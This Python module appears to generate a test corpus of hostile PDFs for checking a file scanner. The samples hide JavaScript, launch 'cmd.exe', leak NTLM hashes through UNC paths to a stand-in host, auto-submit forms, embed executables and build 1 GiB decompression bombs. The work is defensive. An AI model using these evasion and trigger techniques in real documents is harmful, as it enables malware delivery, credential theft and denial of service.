"""PDF documents that run, load, hide or swell."""

import base64
import io
import zlib

import pikepdf

from corpus import run, temporary

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ACTIVE = "active_content|external"
V = "ASVS V5.2.2, CWE-434"


def pdf(objects: dict | None = None, catalog: bytes = b"", page: bytes = b"", header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", trailer: bytes = b"") -> bytes:
    """A document of one page, with these further objects and entries."""
    all_objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] " + page + b" >>",
        **(objects or {}),
    }
    out, places = bytearray(header), {}
    for number, content in all_objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(out)
    size = max(all_objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 00001 f \n"
    return bytes(out) + b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)


def stream(data: bytes, more: bytes = b"", filters: tuple = ()) -> bytes:
    """A stream object; the filters are applied from the last to the first, as a reader undoes them from the first."""
    for name in reversed(filters):
        data = ENCODERS[name](data)
    names = b" /Filter [" + b" ".join(b"/" + name.encode() for name in filters) + b"]" if filters else b""
    return b"<< /Length %d%s %s >>\nstream\n" % (len(data), names, more) + data + b"\nendstream"


def hexed(data: bytes) -> bytes:
    return data.hex().encode() + b">"


def base85(data: bytes) -> bytes:
    return base64.a85encode(data) + b"~>"


def runs(data: bytes) -> bytes:
    pieces = [data[at : at + 128] for at in range(0, len(data), 128)]
    return b"".join(bytes([len(piece) - 1]) + piece for piece in pieces) + b"\x80"


def lzw(data: bytes) -> bytes:
    """LZW with early change, of codes of 9 bits alone: the table is cleared before it grows."""
    bits = ""
    for at in range(0, len(data), 200):
        bits += format(256, "09b") + "".join(format(byte, "09b") for byte in data[at : at + 200])
    bits += format(257, "09b")
    bits += "0" * (-len(bits) % 8)
    return bytes(int(bits[at : at + 8], 2) for at in range(0, len(bits), 8))


ENCODERS = {"ASCIIHexDecode": hexed, "ASCII85Decode": base85, "FlateDecode": zlib.compress, "RunLengthDecode": runs, "LZWDecode": lzw,
            "AHx": hexed, "A85": base85, "Fl": zlib.compress, "RL": runs, "LZW": lzw}


def with_xref_stream(compressed: dict, catalog: bytes = b"", page: bytes = b"", filters: tuple = ("FlateDecode",), more: bytes = b"", raw=None, predictor=False) -> bytes:
    """A document whose further objects are in an object stream, found by a cross-reference stream."""
    plain = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] " + page + b" >>",
    }
    head, body = b"", b""
    for number, content in compressed.items():
        head += b"%d %d " % (number, len(body))
        body += content + b" "
    holder = max([*compressed, 3]) + 1
    content = head + body
    if predictor:
        width = 16
        padded = content + b" " * (-len(content) % width)
        rows = [padded[at : at + width] for at in range(0, len(padded), width)]
        before, predicted = bytes(width), b""
        for row in rows:
            predicted += b"\x02" + bytes((one - other) % 256 for one, other in zip(row, before))
            before = row
        data = zlib.compress(predicted)
        held = b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns %d >> /Length %d >>\nstream\n" % (len(compressed), len(head), width, len(data)) + data + b"\nendstream"
    else:
        held = stream(content, b"/Type /ObjStm /N %d /First %d %s" % (len(compressed), len(head), more), filters)
    plain[holder] = raw or held
    out, places = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, content in plain.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    table, size = b"", holder + 2
    start = len(out)
    for number in range(size):
        if number in places:
            table += b"\x01" + places[number].to_bytes(4, "big") + b"\0\0"
        elif number in compressed:
            table += b"\x02" + holder.to_bytes(4, "big") + list(compressed).index(number).to_bytes(2, "big")
        elif number == holder + 1:
            table += b"\x01" + start.to_bytes(4, "big") + b"\0\0"
        else:
            table += b"\0" * 7
    out += b"%d 0 obj\n" % (holder + 1)
    out += stream(table, b"/Type /XRef /W [1 4 2] /Size %d /Root 1 0 R" % size, ("FlateDecode",)) + b"\nendobj\n"
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % start


def scripts(group):
    def put(name, content, what, words="active_content"):
        group.hostile(f"pdf/js-{name}.pdf", content, words, V, what)

    put("open-action", pdf(catalog=b"/OpenAction " + SCRIPT), "a script on opening")
    put("open-action-reference", pdf({4: SCRIPT}, catalog=b"/OpenAction 4 0 R"), "a script on opening, by reference")
    put("names", pdf({4: SCRIPT}, catalog=b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>"), "a script of the document")
    put("page-open", pdf(page=b"/AA << /O " + SCRIPT + b" >>"), "a script when a page opens")
    put("catalog-close", pdf(catalog=b"/AA << /WC " + SCRIPT + b" >>"), "a script when the document closes")
    put("link", pdf(page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A " + SCRIPT + b" >>]"), "a link that runs a script")
    put("link-previous", pdf(page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /PA " + SCRIPT + b" >>]"), "a script as the earlier action of a web link")
    put("widget", pdf({4: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K " + SCRIPT + b" /C " + SCRIPT + b" >> >>"}, catalog=b"/AcroForm << /Fields [4 0 R] /CO [4 0 R] >>", page=b"/Annots [4 0 R]"), "a field that computes")
    put("field-mouse", pdf({4: b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (a) /Rect [0 0 9 9] /AA << /E " + SCRIPT + b" >> >>"}, catalog=b"/AcroForm << /Fields [4 0 R] >>", page=b"/Annots [4 0 R]"), "a script when the mouse enters")
    put("outline", pdf({4: b"<< /First 5 0 R /Last 5 0 R /Count 1 >>", 5: b"<< /Title (a) /Parent 4 0 R /A " + SCRIPT + b" >>"}, catalog=b"/Outlines 4 0 R"), "a bookmark that runs a script")
    put("stream", pdf({4: stream(b"app.alert(1)"), 5: b"<< /S /JavaScript /JS 4 0 R >>"}, catalog=b"/OpenAction 5 0 R"), "the script is a stream")
    put("next", pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next " + SCRIPT + b" >>"), "a script after a harmless action")
    put("next-list", pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage >> " + SCRIPT + b"] >>"), "a script in a list of next actions")
    put("hash-name", pdf(catalog=b"/OpenAction << /S /J#61vaScript /JS (1) >>"), "a name with #61")
    put("hash-all", pdf(catalog=b"/Open#41ction << /#53 /#4a#61#76#61#53#63#72#69#70#74 /#4AS (1) >>"), "all names with #xx")
    put("comment", pdf(catalog=b"/OpenAction << /S%x\n/JavaScript%)>>\n/JS (1) >>"), "comments between the names")
    put("no-space", pdf(catalog=b"/OpenAction<</S/JavaScript/JS(1)>>"), "no white space")
    put("nul-space", pdf(catalog=b"/OpenAction\0<<\0/S\0/JavaScript\x0c/JS\0(1)>>"), "NUL and form feed as white space")
    put("key-only", pdf(catalog=b"/OpenAction << /JS (app.alert\\(1\\)) >>"), "an action without its kind, which lenient readers run")
    put("name-object", pdf({4: b"/JavaScript"}, catalog=b"/OpenAction << /S 4 0 R /JS (1) >>"), "the kind of the action is an object of its own")
    put("rendition", pdf({4: b"<< /S /Rendition /OP 4 /JS (app.alert\\(1\\)) >>"}, catalog=b"/OpenAction 4 0 R"), "a rendition with a script", ACTIVE)
    put("xfa", pdf({4: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template xmlns='http://www.xfa.org/schema/xfa-template/3.3/'><subform><event activity='initialize'><script contentType='application/x-javascript'>xfa.host.messageBox('1')</script></event></subform></template></xdp:xdp>")}, catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>"), "an XFA form with a script")
    put("xfa-parts", pdf({4: stream(b"<template><subform><script>1</script></subform></template>", filters=("FlateDecode",))}, catalog=b"/AcroForm << /XFA [(template) 4 0 R] >>"), "XFA in compressed parts")
    put("3d", pdf({4: stream(b"U3D", b"/Type /3D /Subtype /U3D /OnInstantiate 5 0 R"), 5: stream(b"host.alert(1)")}, page=b"/Annots [<< /Type /Annot /Subtype /3D /3DD 4 0 R /Rect [0 0 9 9] >>]"), "a 3D scene with a script", ACTIVE)
    put("orphan", pdf({4: SCRIPT}), "a script that nothing refers to yet")
    put("duplicate-object", shadowed(), "the object 4 twice: a repairing reader takes the script")
    put("broken-xref", pdf({4: SCRIPT}, catalog=b"/OpenAction 4 0 R").replace(b"startxref\n", b"startxref\n9"), "a wrong cross-reference table, which readers repair", "active_content|damaged")
    put("no-xref", pdf({4: SCRIPT}, catalog=b"/OpenAction 4 0 R").split(b"xref\n")[0] + b"trailer << /Root 1 0 R >>\n%%EOF\n", "no cross-reference table", "active_content|damaged")
    base = pdf()
    update = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction " + SCRIPT + b" >>\nendobj\n"
    start = len(base) + len(update)
    put("incremental", base + update + b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (len(base), base.rindex(b"xref\n0"), start), "an incremental update that adds a script")
    put("old-revision", pdf(catalog=b"/OpenAction " + SCRIPT) + pdf_update(), "a script in the first revision, taken away by the second: viewers offer the first", "active_content")
    put("hybrid", hybrid(), "a hybrid file: the table for old readers, XRefStm for new ones")
    put("trailer-root", base.replace(b"/Root 1 0 R", b"/Root 1 0 R /OpenAction " + SCRIPT), "a script in the trailer", "active_content|damaged")
    put("utf16-name-tree", pdf({4: b"<< /Names [<FEFF0061> << /S /JavaScript /JS <FEFF006100700070002E0061006C006500720074002800310029> >>] >>"}, catalog=b"/Names << /JavaScript 4 0 R >>"), "the script as a hexadecimal UTF-16 string")
    put("form-xobject", pdf({4: stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /AA << /O " + SCRIPT + b" >>")}, page=b"/Resources << /XObject << /X 4 0 R >> >>"), "a script in the dictionary of a stream")


def shadowed() -> bytes:
    first = pdf({4: b"<< /S /GoTo /D [3 0 R /Fit] >>"}, catalog=b"/OpenAction 4 0 R")
    at = first.index(b"xref\n0")
    second = b"4 0 obj\n" + SCRIPT + b"\nendobj\n"
    return first[:at] + second + first[at:].replace(b"startxref\n%d" % at, b"startxref\n%d" % (at + len(second)))


def pdf_update() -> bytes:
    base = pdf(catalog=b"/OpenAction " + SCRIPT)
    update = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    return update + b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (len(base), base.rindex(b"xref\n0"), len(base) + len(update))


def hybrid() -> bytes:
    """The old table calls object 4 free; the stream says that it is in the object stream 5."""
    out, places = bytearray(b"%PDF-1.5\n"), {}
    plain = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >>",
        5: stream(b"4 0 " + SCRIPT, b"/Type /ObjStm /N 1 /First 4", ("FlateDecode",)),
    }
    for number, content in plain.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    table = b"\x02" + (5).to_bytes(4, "big") + b"\0\0" + b"\x01" + places[5].to_bytes(4, "big") + b"\0\0"
    second = len(out)
    out += b"6 0 obj\n" + stream(table, b"/Type /XRef /W [1 4 2] /Index [4 2] /Size 7") + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 7\n0000000000 65535 f \n"
    for number in range(1, 7):
        out += b"%010d 00000 n \n" % places[number] if number in places and number != 5 else b"0000000000 00000 f \n"
    return bytes(out) + b"trailer\n<< /Size 7 /Root 1 0 R /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n" % (second, start)


def in_object_streams(group):
    def put(name, filters, what, **options):
        content = with_xref_stream({4: SCRIPT}, catalog=b"/OpenAction 4 0 R", filters=filters, **options)
        group.hostile(f"pdf/objstm-{name}.pdf", content, "active_content", V, f"a script in an object stream: {what}")

    put("flate", ("FlateDecode",), "Flate")
    put("plain", (), "not compressed")
    put("hex", ("ASCIIHexDecode",), "ASCIIHex")
    put("85", ("ASCII85Decode",), "ASCII85")
    put("lzw", ("LZWDecode",), "LZW")
    put("runs", ("RunLengthDecode",), "RunLength")
    put("85-flate", ("ASCII85Decode", "FlateDecode"), "ASCII85, then Flate")
    put("hex-85-lzw-flate", ("ASCIIHexDecode", "ASCII85Decode", "LZWDecode", "FlateDecode"), "four filters")
    put("flate-flate", ("FlateDecode", "FlateDecode"), "Flate twice")
    put("short-names", ("AHx", "Fl"), "the short names of filters")
    put("predictor", (), "Flate with a PNG predictor", predictor=True)
    put("extends", ("FlateDecode",), "an object stream that extends another", more=b"/Extends 1 0 R")
    filtered = stream(b"4 0 " + SCRIPT, b"/Type /ObjStm /N 1 /First 4", ("FlateDecode",)).replace(b"/FlateDecode", b"/#46lateDecode").replace(b"/ObjStm", b"/Obj#53tm")
    put("hash-filter", (), "names with #xx of the filter and of the type", raw=filtered)
    indirect = with_xref_stream({4: SCRIPT, 5: b"/FlateDecode"}, catalog=b"/OpenAction 4 0 R")
    group.hostile("pdf/objstm-two-objects.pdf", indirect, "active_content", V, "a script beside another object")
    launch = with_xref_stream({4: b"<< /S /Launch /F (cmd.exe) >>"}, catalog=b"/OpenAction 4 0 R")
    group.hostile("pdf/objstm-launch.pdf", launch, ACTIVE, V, "a program in an object stream")
    whole = with_xref_stream({4: b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>", 5: SCRIPT}, catalog=b"/OpenAction 4 0 R")
    group.hostile("pdf/objstm-next.pdf", whole, "active_content", V, "a script as the next action, in an object stream")
    with pikepdf.open(io.BytesIO(pdf(catalog=b"/OpenAction " + SCRIPT))) as document:
        for name, options in [("generate", {"object_stream_mode": pikepdf.ObjectStreamMode.generate}), ("linearized", {"linearize": True, "object_stream_mode": pikepdf.ObjectStreamMode.generate})]:
            out = io.BytesIO()
            document.save(out, **options)
            group.hostile(f"pdf/objstm-qpdf-{name}.pdf", out.getvalue(), "active_content", V, f"a script in object streams as qpdf writes them, {name}")


def encrypted(group):
    source = temporary("open.pdf", pdf(catalog=b"/OpenAction " + SCRIPT))
    for name, options in [("40", ["--allow-weak-crypto", "--encrypt", "", "owner", "40", "--"]), ("128-rc4", ["--allow-weak-crypto", "--encrypt", "", "owner", "128", "--use-aes=n", "--"]), ("128-aes", ["--allow-weak-crypto", "--encrypt", "", "owner", "128", "--use-aes=y", "--"]), ("256", ["--encrypt", "", "owner", "256", "--"]), ("user-password", ["--encrypt", "user", "owner", "256", "--"])]:
        run("qpdf", *options, source, temporary("enc.pdf"))
        group.hostile(f"pdf/encrypted-{name}.pdf", temporary("enc.pdf"), "encrypted|active_content", V, f"encrypted ({name}), with an empty password of the user: a script inside that only a decrypting reader sees" if "user" not in name else "encrypted with a password of the user")


def elsewhere(group):
    def put(name, content, what, words=ACTIVE, rule="ASVS V1.3.6, CWE-918"):
        group.hostile(f"pdf/{name}.pdf", content, words, rule, what)

    def opened(action: bytes, **objects) -> bytes:
        return pdf(catalog=b"/OpenAction " + action, **objects)

    def clicked(action: bytes) -> bytes:
        return pdf(page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A " + action + b" >>]")

    put("launch", opened(b"<< /S /Launch /F (cmd.exe) >>"), "starts a program", rule=V)
    put("launch-win", clicked(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"), "starts a program with arguments", rule=V)
    put("launch-filespec", opened(b"<< /S /Launch /F << /Type /Filespec /F (/usr/bin/xcalc) >> /NewWindow true >>"), "starts a program by a file specification", rule=V)
    put("gotor-unc", opened(b"<< /S /GoToR /F (\\\\\\\\host\\\\share\\\\a.pdf) /D [0 /Fit] >>"), "opens a file on another host: the reader sends the NTLM hash")
    put("gotor-unc-slash", opened(b"<< /S /GoToR /F (//host/share/a.pdf) /D [0 /Fit] >>"), "the same with slashes")
    put("gotor-page", pdf(page=b"/AA << /O << /S /GoToR /F << /F (\\\\\\\\host\\\\s\\\\a) >> /D [0 /Fit] >> >>"), "the same when a page opens (CVE-2018-4993)")
    put("gotoe-unc", opened(b"<< /S /GoToE /F (\\\\\\\\host\\\\share\\\\a.pdf) /D [0 /Fit] /T << /R /C /N (x) >> >>"), "GoToE to another host (CVE-2018-4993)")
    put("gotoe-embedded", opened(b"<< /S /GoToE /T << /R /C /N (x.pdf) >> /D [0 /Fit] >>"), "opens an embedded file")
    put("importdata", opened(b"<< /S /ImportData /F (\\\\\\\\host\\\\share\\\\a.fdf) >>"), "imports data of another host")
    put("submit-unc", opened(b"<< /S /SubmitForm /F (\\\\\\\\host\\\\share) >>"), "submits to another host on opening")
    put("submit-http", opened(b"<< /S /SubmitForm /F << /FS /URL /F (http://collect.example/) >> /Flags 4 >>"), "submits on opening")
    put("submit-page", pdf(page=b"/AA << /O << /S /SubmitForm /F (http://collect.example/) >> >>"), "submits when a page opens")
    put("uri-open", opened(b"<< /S /URI /URI (http://collect.example/) >>"), "opens an address without a click")
    for name, address in [("javascript", b"(javascript:alert\\(1\\))"), ("javascript-case", b"( JaVaScRiPt:alert\\(1\\))"), ("javascript-octal", b"(\\152avascript:alert\\(1\\))"), ("javascript-hex", b"<6a6176617363726970743a616c657274283129>"), ("javascript-utf16", b"<FEFF006A006100760061007300630072006900700074003A0061>"), ("javascript-tab", b"(java\\tscript:alert\\(1\\))"), ("vbscript", b"(vbscript:msgbox\\(1\\))"), ("data", b"(data:text/html,<script>alert\\(1\\)</script>)"), ("file", b"(file:///C:/Windows/System32/calc.exe)"), ("smb", b"(smb://host/share)"), ("ms-msdt", b"(ms-msdt:/id PCWDiagnostic)"), ("search-ms", b"(search-ms:query=x&crumb=location:\\\\\\\\host\\\\s)")]:
        put(f"uri-{name}", clicked(b"<< /S /URI /URI " + address + b" >>"), f"a link to {name}")
    put("uri-base", pdf({4: b"<< /S /URI /URI (alert\\(1\\)) >>"}, catalog=b"/URI << /Base (javascript:) >>"), "relative links below a base of javascript:")
    put("thread-remote", opened(b"<< /S /Thread /F (\\\\\\\\host\\\\s\\\\a.pdf) /D 0 >>"), "an article of another file")
    put("movie", opened(b"<< /S /Movie /T (a) >>", page=b"/Annots [<< /Type /Annot /Subtype /Movie /T (a) /Movie << /F (\\\\\\\\host\\\\s\\\\a.avi) >> /Rect [0 0 9 9] >>]"), "a movie on another host")
    put("sound-external", opened(b"<< /S /Sound /Sound 4 0 R >>", objects={4: stream(b"", b"/Type /Sound /R 8000 /F (\\\\\\\\host\\\\s\\\\a.wav)")}), "a sound on another host")
    put("rendition-remote", opened(b"<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F (http://host/a.swf) >> /CT (application/x-shockwave-flash) >> >> >>"), "plays a file of another host")
    put("richmedia", pdf({4: b"<< /Assets << /Names [(a.swf) 5 0 R] >> /Configurations [<< /Subtype /Flash >>] >>", 5: b"<< /Type /Filespec /F (a.swf) /EF << /F 6 0 R >> >>", 6: stream(b"FWS\x09rest", b"/Type /EmbeddedFile")}, page=b"/Annots [<< /Type /Annot /Subtype /RichMedia /RichMediaContent 4 0 R /Rect [0 0 9 9] >>]"), "a Flash film (RichMedia)")
    put("external-stream", pdf({4: b"<< /Length 0 /F (\\\\\\\\host\\\\share\\\\page) >>\nstream\n\nendstream"}, page=b"/Contents 4 0 R"), "a page whose content is a file on another host")
    put("external-stream-url", pdf({4: b"<< /Length 0 /F << /FS /URL /F (http://host/a) >> >>\nstream\n\nendstream"}, page=b"/Contents 4 0 R"), "a page whose content is an address")
    put("reference-xobject", pdf({4: stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (\\\\\\\\host\\\\s\\\\a.pdf) /Page 0 >>")}, page=b"/Resources << /XObject << /X 4 0 R >> >>"), "a page of another file as a picture (Ref)")
    put("opi", pdf({4: stream(b"\0", b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /OPI << /2.0 << /Type /OPI /Version 2.0 /F (\\\\\\\\host\\\\s\\\\a.tif) >> >>")}, page=b"/Resources << /XObject << /X 4 0 R >> >>"), "a picture that a press loads from another host (OPI)")


def embedded(group):
    def put(name, entry, content, what):
        spec = b"<< /Type /Filespec /F (" + entry + b") /UF (" + entry + b") /EF << /F 5 0 R >> >>"
        whole = pdf({4: spec, 5: stream(content, b"/Type /EmbeddedFile", ("FlateDecode",))}, catalog=b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>")
        group.hostile(f"pdf/embedded-{name}.pdf", whole, "active_content", V, what)

    program = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(48) + b"PE\0\0"
    put("exe", b"setup.exe", program, "an embedded program")
    put("exe-as-txt", b"readme.txt", program, "an embedded program under the name of a text")
    put("docm", b"a.docm", b"PK\x03\x04", "an embedded document with macros")
    put("settingcontent", b"a.SettingContent-ms", b"<PCSettings/>", "an embedded SettingContent-ms (2018)")
    put("js", b"a.js", b"WScript.Shell", "an embedded script")
    put("html", b"a.html", b"<script>alert(1)</script>", "an embedded page")
    spec = b"<< /Type /Filespec /F (setup.exe) /EF << /F 5 0 R >> >>"
    note = pdf({4: spec, 5: stream(program, b"/Type /EmbeddedFile")}, page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /FS 4 0 R /Rect [0 0 9 9] >>]")
    group.hostile("pdf/attachment-exe.pdf", note, "active_content", V, "a program as an attachment of a page")
    hidden = with_xref_stream({4: spec.replace(b"5 0 R", b"1 0 R")}, catalog=b"/AF [4 0 R]")
    group.hostile("pdf/objstm-embedded.pdf", hidden, "active_content|damaged", V, "an embedded program in an object stream")


def damaged(group):
    def put(name, content, words, what, rule="ASVS V5.2.2, CWE-20"):
        group.hostile(f"pdf/{name}.pdf", content, words, rule, what)

    put("header-at-offset", b"junk\n" + pdf(), "damaged|unknown_kind|trailing_data", "bytes before the header, where readers still find it")
    put("header-in-comment", b"<!--\n" + pdf(), "damaged|unknown_kind|trailing_data", "a page before the header")
    put("no-end", pdf().replace(b"%%EOF", b""), "damaged", "no end")
    put("text-after", pdf() + b"<script>alert(1)</script>", "trailing_data|damaged", "a script after the end")
    put("two-documents", pdf() + pdf(catalog=b"/OpenAction " + SCRIPT), "active_content|damaged|trailing_data", "a second document after the first")
    put("only-header", b"%PDF-1.7\n%%EOF\n", "damaged", "a header and an end, and nothing between")
    put("empty-objects", b"%PDF-1.7\n1 0 obj\nendobj\ntrailer << >>\n%%EOF\n", "damaged", "no catalog")
    put("prev-cycle", pdf(trailer=b"/Prev 15").replace(b"/Prev 15", b"/Prev %d" % pdf().rindex(b"xref\n0")), "damaged|bomb", "the cross-reference table that follows itself", "ASVS V5.2.3, CWE-835")
    put("length-cycle", pdf({4: b"<< /Length 4 0 R >>\nstream\nx\nendstream"}, page=b"/Contents 4 0 R"), "damaged|bomb", "a stream whose length is itself", "ASVS V5.2.3, CWE-674")
    put("objstm-in-itself", with_xref_stream({4: b"null"}, raw=stream(b"5 0 << >>", b"/Type /ObjStm /N 1 /First 4 /Extends 5 0 R", ("FlateDecode",))), "damaged|bomb", "an object stream that extends itself", "ASVS V5.2.3, CWE-674")
    put("nested-arrays", pdf({4: b"[" * 20000 + b"]" * 20000}), "damaged|bomb", "arrays nested 20,000 deep", "ASVS V5.2.3, CWE-674")
    put("nested-dictionaries", pdf({4: b"<</A" * 8000 + b" 1" + b">>" * 8000}), "damaged|bomb", "dictionaries nested 8,000 deep", "ASVS V5.2.3, CWE-674")
    put("nested-arrays-objstm", with_xref_stream({4: b"[" * 200000 + b"]" * 200000}), "damaged|bomb", "arrays nested 200,000 deep in an object stream", "ASVS V5.2.3, CWE-674")
    put("objstm-count", with_xref_stream({4: b"null"}, raw=stream(b"4 0 null", b"/Type /ObjStm /N 2147483647 /First 4", ("FlateDecode",))), "damaged|bomb", "an object stream of 2^31 objects", "ASVS V5.2.3, CWE-789")
    put("objstm-first-lies", with_xref_stream({4: b"null"}, raw=stream(b"4 0 " + SCRIPT, b"/Type /ObjStm /N 1 /First 4000000000", ("FlateDecode",))), "damaged|bomb|active_content", "the first object is beyond the stream", "ASVS V5.2.3, CWE-125")
    bomb = zlib.compress(bytes(64 * 1024 * 1024), 9)
    put("flate-bomb", pdf({4: b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(bomb) + bomb + b"\nendstream"}, page=b"/Contents 4 0 R"), "bomb", "64 MiB of zeros in 64 kB", "ASVS V5.2.3, CWE-409")
    double = twice()
    put("flate-flate-bomb", pdf({4: b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n" % len(double) + double + b"\nendstream"}, page=b"/Contents 4 0 R"), "bomb", "1 GiB of zeros, compressed twice", "ASVS V5.2.3, CWE-409")
    objects = zlib.compress(b"4 0 " + b"0 " * (32 * 1024 * 1024), 9)
    put("objstm-bomb", with_xref_stream({4: b"null"}, raw=b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(objects) + objects + b"\nendstream"), "bomb", "an object stream of 64 MiB", "ASVS V5.2.3, CWE-409")


def twice() -> bytes:
    """1 GiB of zeros through Flate, made in pieces, and the result through Flate again."""
    first, piece = zlib.compressobj(9), bytes(1024 * 1024)
    inner = b"".join(first.compress(piece) for _ in range(1024)) + first.flush()
    return zlib.compress(inner, 9)


ALL = [scripts, in_object_streams, encrypted, elsewhere, embedded, damaged]
